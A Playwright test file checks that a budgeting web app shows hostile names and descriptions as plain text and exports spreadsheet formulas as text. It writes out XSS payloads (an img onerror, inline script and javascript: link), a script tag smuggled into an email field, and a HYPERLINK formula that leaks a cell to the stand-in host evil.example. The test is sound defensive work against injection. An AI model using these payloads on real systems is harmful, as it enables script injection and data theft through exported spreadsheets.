/** Names and descriptions are text, on every screen and in exported spreadsheets. */
import { readFile } from 'node:fs/promises';
import { expect, type Page, test } from '@playwright/test';
import { startTestBackend, type TestBackend } from '../support/backend.ts';
import { appDir } from '../support/built-app.ts';
import { signIn } from '../support/person.ts';

/** HTML that would run in a page that does not escape it. The script policy may block some of it. */
const HTML =
  '"><img src=x onerror="window.broken=1"><script>window.broken=1</script>' + '<a href="javascript:window.broken=1">';
const FORMULA = `=HYPERLINK("https://evil.example?"&A1,"Total")`;

let backend: TestBackend;

test.beforeAll(async () => {
  backend = await startTestBackend({ appDir });
});

test.afterAll(() => backend.stop());

/** Gives hostile names to everything that the user has. */
async function poison(accountId: string): Promise<void> {
  const { sql } = backend;
  await sql`update public.accounts
    set account_name = ${`Account ${HTML}`}, description = ${HTML}
    where account_id = ${accountId}`;
  const [category] = await sql`insert into public.categories (account_id, name, type)
    values (${accountId}, ${FORMULA}, 'expense'), (${accountId}, ${`Category ${HTML}`}, 'expense')
    returning category_id as id`;
  await sql`insert into public.budgets (account_id, name, amount, description, category_id, short_id)
    values (${accountId}, ${`Budget ${HTML}`}, 100, ${HTML}, ${category?.id}, 'ABCDEFG')`;
  await sql`insert into public.transactions
    (account_id, type, amount, transaction_date, description, metadata, created_by, created_by_email)
    select ${accountId}, 'debit', 5, current_date, ${`Entry ${HTML}`},
      ${sql.json({ category_name: FORMULA, notes: HTML })},
      owner_id, 'eve<script>window.broken=1</script>@example.org' from public.accounts where account_id = ${accountId}`;
}

/** What only a broken page has. */
function damage(page: Page): Promise<{ ran: boolean; elements: number }> {
  return page.evaluate(() => ({
    ran: 'broken' in window,
    elements: document.querySelectorAll('img[src="x"], a[href^="javascript:"], script:not([src])').length,
  }));
}

test('HTML in names and descriptions is shown as it was typed, and a formula is exported as text', async ({
  browser,
}) => {
  const ada = await signIn(browser, backend, 'ada@example.org');
  await poison(ada.accountId);
  const screens: [path: string, shown: string][] = [
    ['/', `Entry ${HTML}`],
    ['/?tab=accounts', `Account ${HTML}`],
    ['/?tab=budgets', `Budget ${HTML}`],
    ['/settings', `Category ${HTML}`],
    ['/settings?tab=budget', `Budget ${HTML}`],
    ['/settings?tab=manageAccess', `Account ${HTML}`],
    [`/account/${ada.accountId}`, `Account ${HTML}`],
  ];
  for (const [path, shown] of screens) {
    const page = await ada.open(path);
    await expect(page.getByText(shown).filter({ visible: true }).first(), path).toBeVisible();
    expect(await damage(page), path).toEqual({ ran: false, elements: 0 });
    await page.close();
  }

  const page = await ada.open('/?tab=reports');
  await expect(page.getByText(FORMULA).filter({ visible: true }).first()).toBeVisible();
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const csv = await readFile(await (await download).path(), 'utf8');
  expect(csv).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""Total"")"`);
  expect(csv.split(/\r?\n|,/).filter((cell) => /^"?[=+@\t]/.test(cell))).toEqual([]);
  await ada.context.close();
});
